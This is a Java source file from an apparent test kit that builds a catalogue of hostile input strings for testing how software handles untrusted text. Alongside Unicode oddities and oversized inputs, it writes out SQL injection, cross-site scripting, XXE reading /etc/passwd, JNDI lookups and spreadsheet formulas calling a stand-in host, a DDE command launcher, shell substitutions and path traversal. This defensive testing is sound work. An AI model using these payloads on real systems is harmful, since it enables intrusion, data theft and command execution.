package org.patrondesk.testkit;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/**
 * Texts that break programs: whoever takes text from people or files keeps each as it is, or refuses it in one sentence.
 *
 * <p>All of them are made here; {@link Corpora} reads those of others. Immutable and safe for use by many threads.
 */
public final class HostileTexts {
    /** What no sentence, page or log line that speaks of a hostile text may hold. */
    public static final String MARK = "Qx7Zw";

    /** How long the {@linkplain #huge() huge} texts are, in UTF-16 units. */
    public static final int HUGE = 10_000_000;

    private static final String BREAKS = "\n\r\u000B\f\u0085\u2028\u2029";

    private HostileTexts() {}

    /**
     * One text.
     *
     * @param name what it tries; safe to print
     * @param value itself; holds {@link #MARK} unless it is too short or too strange for it
     */
    public record HostileText(String name, String value) {
        /** The name: the value is not to be printed. */
        @Override
        public String toString() {
            return name;
        }
    }

    /** Every text but the huge ones, each of at most 100,000 characters. */
    public static List<HostileText> all() {
        return Stream.of(
                        characters(),
                        directions(),
                        halves(),
                        formulas(),
                        lineBreaks(),
                        codes(),
                        markup(),
                        paths(),
                        words(),
                        lengths())
                .flatMap(List::stream)
                .toList();
    }

    /** Texts of 10 MB. */
    public static List<HostileText> huge() {
        return List.of(
                new HostileText("10 MB of one letter", "a".repeat(HUGE)),
                new HostileText("10 MB of white space", " ".repeat(HUGE)),
                new HostileText("10 MB of line breaks", "\n".repeat(HUGE)),
                new HostileText("10 MB of open brackets", "[".repeat(HUGE)),
                new HostileText("10 MB of smiles", "🙂".repeat(HUGE / 2)));
    }

    /** Each control character, at the start, in the middle and at the end. */
    public static List<HostileText> characters() {
        List<HostileText> texts = new ArrayList<>();
        IntStream.concat(IntStream.rangeClosed(0, 0x1F), IntStream.rangeClosed(0x7F, 0x9F))
                .forEach(c -> texts.add(text("control character U+%04X".formatted(c), MARK + (char) c + "b")));
        for (char c : new char[] {0, 7, 0x1B, 0x7F, 0x85}) {
            texts.add(text("begins with U+%04X".formatted((int) c), c + MARK));
            texts.add(text("ends with U+%04X".formatted((int) c), MARK + c));
        }
        texts.add(text("terminal colours", MARK + "\u001B[31mred\u001B[0m\u001B]0;title\u0007"));
        texts.add(text("noncharacters", MARK + "\uFFFE\uFFFF" + Character.toString(0x1FFFF)));
        texts.add(text("private use", MARK + "\uE000" + Character.toString(0x10FFFD)));
        texts.add(text("replacement character", MARK + "\uFFFD"));
        return List.copyOf(texts);
    }

    /** What turns the direction of a line, cannot be seen, or looks like something else. */
    public static List<HostileText> directions() {
        List<HostileText> texts = new ArrayList<>();
        int[] unseen = {
            0xAD, 0x34F, 0x61C, 0x115F, 0x180E, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x202A, 0x202B, 0x202C, 0x202D,
            0x202E, 0x2060, 0x2061, 0x2066, 0x2067, 0x2068, 0x2069, 0x3000, 0x3164, 0xFE0F, 0xFEFF, 0xFFA0, 0xE0041
        };
        for (int c : unseen) {
            texts.add(text("unseen U+%04X".formatted(c), MARK + Character.toString(c) + "b"));
        }
        texts.add(text("nothing but unseen characters", "\u200B\u200C\u2060\uFEFF"));
        texts.add(text("no-break spaces around", "\u00A0" + MARK + "\u2007"));
        texts.add(text("a hundred accents on one letter", MARK + "e" + "\u0301".repeat(100)));
        texts.add(text("letters that look like others", MARK + " раураl ｓｃｒｉｐｔ ſ K İ ı ß"));
        texts.add(text("decomposed", MARK + "Cafe\u0301 \u212B \uFB01"));
        texts.add(text("a family of one sign", MARK + "👩‍👩‍👧‍👦🏳️‍🌈🇬🇧"));
        return List.copyOf(texts);
    }

    /** Halves of surrogate pairs, which have no UTF-8. */
    public static List<HostileText> halves() {
        return List.of(
                text("first half alone", "\uD83D"),
                text("second half alone", "\uDE00"),
                text("first half at the end", MARK + "\uD83D"),
                text("second half at the start", "\uDE00" + MARK),
                text("first half in the middle", MARK + "\uD83Db"),
                text("second half in the middle", MARK + "\uDE00b"),
                text("halves the wrong way round", MARK + "\uDE00\uD83D"),
                text("first half before a pair", MARK + "\uD83D\uD83D\uDE00"));
    }

    /** Beginnings that spreadsheet programs take for a formula, bare and behind blanks, delimiters and quotes. */
    public static List<HostileText> formulas() {
        List<HostileText> texts = new ArrayList<>();
        for (char sign : "=+-@\t\r＝＋－＠﹦﹢﹣﹫".toCharArray()) {
            String name = "formula by U+%04X".formatted((int) sign);
            String call = sign + "HYPERLINK(\"http://x.invalid/?\"&A1,\"" + MARK + "\")";
            texts.add(text(name, call));
            for (String before : List.of(" ", "\u00A0", "\uFEFF", "'", "\"", ",", ";", "|", ":", "\t", "\n", "\",\"")) {
                String behind = before.chars().mapToObj("U+%04X"::formatted).collect(Collectors.joining(" "));
                texts.add(text(name + " behind " + behind, "a" + before + call));
                texts.add(text(name + " behind leading " + behind, before + call));
            }
        }
        texts.add(text("dynamic data exchange", "=cmd|' /C calc'!" + MARK));
        return List.copyOf(texts);
    }

    /** Line breaks by which a value writes headers, log lines, mails and rows of its own. */
    public static List<HostileText> lineBreaks() {
        List<HostileText> texts = new ArrayList<>();
        List.of("\r\n", "\r\n\r\n", "\n\r", "%0d%0a", "\\r\\n", "\uFF0D\uFF0A", "\u560D\u560A", "=0D=0A")
                .forEach(end -> texts.add(header(end)));
        BREAKS.chars().forEach(c -> texts.add(header(Character.toString(c))));
        texts.add(text("log line", MARK + "\n2026-01-01 00:00:00 ERROR root - " + MARK));
        texts.add(text("end of a mail", MARK + "\r\n.\r\nQUIT\r\n"));
        texts.add(text("encoded word", "=?utf-8?b?QmNjOiB4QHguaW52YWxpZA==?= " + MARK));
        return List.copyOf(texts);
    }

    private static HostileText header(String end) {
        String behind = end.chars().mapToObj("U+%04X"::formatted).collect(Collectors.joining(" "));
        return text("header behind " + behind, MARK + end + "Bcc: x@x.invalid" + end + "b");
    }

    /** Shapes that some language runs: SQL, expressions, look-ups, templates, shells. */
    public static List<HostileText> codes() {
        return Stream.of(
                        "'; DROP TABLE decision; --",
                        "' OR '1'='1",
                        "\" OR \"\"=\"",
                        "1); DELETE FROM event WHERE (1=1",
                        "%' ESCAPE '!",
                        "\\'; SELECT pg_sleep(9); --",
                        "$$; SELECT 1; $$",
                        "x' UNION SELECT key FROM vault --",
                        "id DESC, (SELECT 1)",
                        "${7*7}",
                        "#{7*7}",
                        "${validatedValue}",
                        "{max} {0} {validatedValue}",
                        "${''.getClass().forName('java.lang.Runtime')}",
                        "{{7*7}} {{{this}}} {{#a}}{{/a}}",
                        "${jndi:ldap://x.invalid/a}",
                        "${${lower:j}ndi:dns://x.invalid}",
                        "{} {} {}",
                        "%s%n%d%1$s%999999999d",
                        "'{0,number,#.##}'",
                        "`id` $(id) ; id | id && id",
                        "-rf --help -- @file",
                        "\",\"v\":99,\"type\":\"event",
                        "\\u0000\\ud800\\",
                        "*)(uid=*))(|(uid=*")
                .map(code -> text("code " + Integer.toHexString(code.hashCode()), code + MARK))
                .toList();
    }

    /** Shapes that a page or an XML reader takes for markup. */
    public static List<HostileText> markup() {
        return Stream.of(
                        "<script>alert(1)</script>",
                        "\"><img src=x onerror=alert(1)>",
                        "'><svg/onload=alert(1)>",
                        "</title></style></textarea><script>x</script>",
                        "<!--><iframe src=javascript:alert(1)>",
                        "javascript:alert(1)",
                        "&lt;script&gt;&#x3c;script&#62;",
                        "<style>@import 'http://x.invalid'</style>",
                        "]]><x>&y;</x><![CDATA[",
                        "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
                        "\" onmouseover=\"alert(1)")
                .map(code -> text("markup " + Integer.toHexString(code.hashCode()), code + MARK))
                .toList();
    }

    /** Names of files that lead elsewhere, or that some system cannot hold. */
    public static List<HostileText> paths() {
        return Stream.of(
                        "../../",
                        "..\\..\\",
                        "/etc/",
                        "C:\\Windows\\",
                        "\\\\x.invalid\\share\\",
                        "file:///etc/",
                        "....//....//",
                        "%2e%2e%2f",
                        "..%c0%af",
                        "~root/",
                        "CON:",
                        "a:stream:",
                        ".hidden\u200B.",
                        "name ending in a dot. ",
                        "*?<>|\"")
                .map(path -> text("path " + Integer.toHexString(path.hashCode()), path + MARK))
                .toList();
    }

    /** Words and numbers that are something else to some language. */
    public static List<HostileText> words() {
        return Stream.of(
                        "",
                        " ",
                        ".",
                        "..",
                        "-",
                        "null",
                        "NULL",
                        "undefined",
                        "true",
                        "NaN",
                        "Infinity",
                        "-0",
                        "0x10",
                        "1e309",
                        "00123",
                        "1,000.50",
                        "9007199254740993",
                        "2147483648",
                        "1/2/03",
                        "=",
                        "unwritten",
                        "default",
                        "other",
                        "by-policy",
                        "(unknown)",
                        "__proto__",
                        "constructor",
                        "CON",
                        "~",
                        "!!x",
                        "<<")
                .map(word -> text("word '" + word + "'", word))
                .toList();
    }

    /** Long lines and long words, within what a request may carry. */
    public static List<HostileText> lengths() {
        return List.of(
                text("501 letters", MARK + "a".repeat(496)),
                text("2,001 letters", MARK + "a".repeat(1_996)),
                text("a line of 100,000 letters", "a".repeat(100_000)),
                text("100,000 blanks", " ".repeat(100_000)),
                text("100,000 quotes", "\"".repeat(100_000)),
                text("100,000 open brackets", "[".repeat(100_000)),
                text("50,000 smiles", "🙂".repeat(50_000)),
                text("100,000 accents", "\u0301".repeat(100_000)),
                text("a text that slow patterns never finish", "a".repeat(50_000) + "!"));
    }

    private static HostileText text(String name, String value) {
        return new HostileText(name, value);
    }
}
